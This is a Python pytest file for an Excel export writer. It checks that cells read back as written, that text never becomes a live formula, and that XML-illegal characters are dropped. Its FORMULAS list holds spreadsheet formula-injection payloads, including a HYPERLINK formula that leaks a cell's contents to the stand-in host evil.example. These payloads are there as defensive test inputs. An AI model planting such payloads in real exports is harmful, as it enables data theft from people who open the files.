"""The Excel writer (core.xlsx): what it writes reads back with openpyxl as written, text is
never a formula, and characters XML cannot hold are dropped. `text_cells_only` is the check
every export's tests apply to their downloaded files."""

import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.text import XML_ILLEGAL, xml_text
from core.xlsx import BOLD, FORMULA_START, HEADER, Workbook

# Text an attacker stores so that an export turns it into a live formula (OWASP: CSV injection).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A3,"详情")',
    "+1+2",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
# Characters stored before input was checked; XML 1.0 forbids them.
CONTROLS = "\x01\x08\x0b\x0c\x1f"


def text_cells_only(content: bytes):
    """Load an .xlsx file in full and check every cell of every sheet: no formula anywhere, text
    that Excel would read as a formula is a string cell marked as text, and no text holds a
    character XML forbids. Returns the workbook."""
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not XML_ILLEGAL.search(cell.value), (cell.coordinate, cell.value)
                    if cell.value.startswith(FORMULA_START):
                        assert cell.data_type == "s", (cell.coordinate, cell.value)
                        assert cell.quotePrefix, (cell.coordinate, cell.value)
    return book


def test_xml_text_drops_what_xml_forbids_and_keeps_the_rest():
    assert xml_text("地址\x0b一号\x1f院\x00") == "地址一号院"
    assert xml_text("第一行\n第二行\t制表\r") == "第一行\n第二行\t制表\r"
    assert xml_text("\ud800孤立代理\ufffe\uffff") == "孤立代理"
    assert xml_text(None) == ""


def test_values_read_back_as_written():
    book = Workbook()
    sheet = book.sheet("台账", ["文字", "整数", "小数", "金额", "日期", "空", "空串", "是否"])
    sheet.append(["隐患", 7, 2.5, Decimal("1500.50"), datetime.date(2026, 1, 31), None, "", True])
    sheet.append(["<&>\"'", -3, 0.0, Decimal("0"), datetime.date(1900, 3, 1), " 前后 ", "x", 0])
    rows = list(load_workbook(io.BytesIO(book.getvalue()))["台账"].iter_rows(values_only=True))
    assert rows == [
        ("文字", "整数", "小数", "金额", "日期", "空", "空串", "是否"),
        ("隐患", 7, 2.5, 1500.5, datetime.datetime(2026, 1, 31), None, None, True),
        ("<&>\"'", -3, 0, 0, datetime.datetime(1900, 3, 1), " 前后 ", "x", 0),
    ]


def test_formula_text_is_a_string_cell_marked_as_text_and_unchanged():
    book = Workbook()
    sheet = book.sheet("表", ["名称"])
    for text in FORMULAS:
        sheet.append([text])
    sheet.append(["普通文字"])
    loaded = text_cells_only(book.getvalue())
    cells = [row[0] for row in loaded["表"].iter_rows(min_row=2)]
    assert [c.value for c in cells] == [*FORMULAS, "普通文字"]
    assert [c.quotePrefix for c in cells] == [True] * len(FORMULAS) + [False]


def test_control_characters_are_dropped_from_cells_and_sheet_names():
    book = Workbook()
    sheet = book.sheet("名\x1f录", ["地\x0b址"])
    sheet.append([f"赵寨子镇{CONTROLS}工业园\n1号"])
    loaded = text_cells_only(book.getvalue())
    assert loaded.sheetnames == ["名录"]
    assert list(loaded["名录"].iter_rows(values_only=True)) == [("地址",), ("赵寨子镇工业园\n1号",)]


def test_sheets_widths_frozen_header_styles_and_lists():
    book = Workbook()
    first = book.sheet("一", ["甲", "乙"], widths=[20, None], header_style=HEADER, freeze=True)
    first.validation(1, ["是", "否"], "请选择")
    first.append(["a", "是"])
    second = book.sheet("二", ["丙"], header_style=BOLD)
    second.append([1])
    loaded = load_workbook(io.BytesIO(book.getvalue()))
    assert loaded.sheetnames == ["一", "二"]
    one = loaded["一"]
    assert one.freeze_panes == "A2"
    assert one.column_dimensions["A"].width == 20
    assert one["A1"].font.b and one["A1"].fill.fgColor.rgb == "FF1F4E79"
    (validation,) = one.data_validations.dataValidation
    assert validation.type == "list" and validation.formula1 == '"是,否"'
    assert str(validation.sqref).startswith("B2:B")
    assert loaded["二"]["A1"].font.b and loaded["二"]["A2"].value == 1


def test_more_than_26_columns():
    book = Workbook()
    sheet = book.sheet("宽", [f"列{i}" for i in range(30)])
    sheet.append(list(range(30)))
    rows = list(load_workbook(io.BytesIO(book.getvalue()))["宽"].iter_rows(values_only=True))
    assert rows[1] == tuple(range(30))


def test_an_unknown_value_type_is_a_programming_error():
    book = Workbook()
    sheet = book.sheet("表")
    with pytest.raises(TypeError):
        sheet.append([datetime.datetime(2026, 1, 1, 8, 0)])
    book.close()
